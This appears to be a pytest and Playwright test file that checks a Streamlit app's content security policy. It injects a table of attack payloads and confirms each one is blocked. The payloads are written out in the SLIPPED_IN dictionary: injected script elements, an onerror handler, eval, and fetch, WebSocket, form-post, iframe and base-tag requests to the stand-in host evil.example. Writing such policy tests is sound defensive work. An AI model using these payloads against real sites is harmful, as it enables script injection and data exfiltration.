"""The content security policy: Streamlit runs under it, what is slipped in does not."""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from urllib.error import URLError
from urllib.request import urlopen

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.conftest import TIMEOUT_MS, USUAL
from tests.processes import ROOT, free_port
from tests.waiting import until

APP = Path(__file__).with_name("policy_app.py")
VIOLATION = """
expected => new Promise((resolve) => {
  document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
    if (effectiveDirective === expected) resolve(expected)
  })
  setTimeout(() => resolve("nothing"), 5000)
  try { SOURCE } catch {}
})
"""
SLIPPED_IN = {
    "inline": (
        "let s = document.createElement('script'); s.text = 'window.hit = 1';"
        "document.body.append(s)",
        "script-src-elem",
    ),
    "handler": (
        "document.body.insertAdjacentHTML('beforeend', '<img src=data:, onerror=window.hit=1>')",
        "script-src-attr",
    ),
    "foreign script": (
        "let s = document.createElement('script'); s.src = 'https://evil.example/x.js';"
        "document.body.append(s)",
        "script-src-elem",
    ),
    "eval": ("setTimeout(() => Function('window.hit = 1')())", "script-src"),
    "picture": ("new Image().src = 'https://evil.example/x.png'", "img-src"),
    "request": ("fetch('https://evil.example/x')", "connect-src"),
    "frame": (
        "document.body.insertAdjacentHTML('beforeend', '<iframe src=https://evil.example>')",
        "frame-src",
    ),
    "socket": ("new WebSocket('wss://evil.example/x')", "connect-src"),
    "form": (
        "document.body.insertAdjacentHTML('beforeend',"
        " '<form action=https://evil.example method=post></form>');"
        "document.forms[document.forms.length - 1].submit()",
        "form-action",
    ),
    "base": (
        "document.head.insertAdjacentHTML('beforeend', '<base href=https://evil.example>')",
        "base-uri",
    ),
    "object": (
        "document.body.insertAdjacentHTML('beforeend', '<object data=https://evil.example/x>')",
        "object-src",
    ),
}


@pytest.fixture(scope="module")
def url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The address of policy_app.py, running."""
    port = free_port()
    command = [sys.executable, "-m", "streamlit", "run", str(APP), "--server.port", str(port)]
    log = tmp_path_factory.mktemp("policy") / "server.log"
    with log.open("wb") as output:
        process = subprocess.Popen(
            [*command, "--server.headless", "true"],
            cwd=ROOT,
            env={**os.environ, "PYTHONPATH": str(ROOT)},
            stdout=output,
            stderr=output,
        )
    address = f"http://127.0.0.1:{port}"

    def healthy() -> bool:
        assert process.poll() is None, log.read_text()
        try:
            with urlopen(f"{address}/_stcore/health", timeout=1) as answer:
                return bool(answer.status == 200)
        except (URLError, OSError):
            return False

    until(healthy, 30)
    yield address
    process.terminate()
    process.wait()


def test_streamlit_runs_under_it(page: Page, url: str) -> None:
    """Complaints would be in the console, which the context looks at in the end."""
    page.goto(url)
    # The first run of the process waits for what tables and charts import.
    expect(page.get_by_text("The end")).to_be_visible(timeout=3 * TIMEOUT_MS)
    expect(page.get_by_text("Component runs")).to_be_visible()
    expect(page.locator(".katex").first).to_be_visible()
    expect(page.get_by_test_id("stVegaLiteChart").locator("canvas, svg").first).to_be_visible()
    expect(page.get_by_test_id("stDataFrame").locator("canvas").first).to_be_visible()
    expect(page.locator("pre code").first).to_be_visible()
    page.locator("input[type=file]").set_input_files(
        {"name": "a.txt", "mimeType": "text/plain", "buffer": b"a"}
    )
    expect(page.get_by_text("a.txt")).to_be_visible()
    with page.expect_download() as download:
        page.get_by_role("button", name="Download", exact=True).click()
    assert download.value.path().read_bytes() == b"x"


@pytest.fixture(scope="module")
def under_it(browser: Browser, url: str) -> Iterator[Page]:
    """A page that tests try to slip something into; nothing they do may change it."""
    page = browser.new_page(**USUAL)
    page.goto(url)
    expect(page.get_by_text("The end")).to_be_visible()
    yield page
    page.close()


@pytest.mark.parametrize("name", SLIPPED_IN)
def test_what_is_slipped_in_does_not_run(under_it: Page, name: str) -> None:
    """No two that follow each other break the same directive."""
    source, directive = SLIPPED_IN[name]
    assert under_it.evaluate(VIOLATION.replace("SOURCE", source), directive) == directive
    assert under_it.evaluate("window.hit") is None
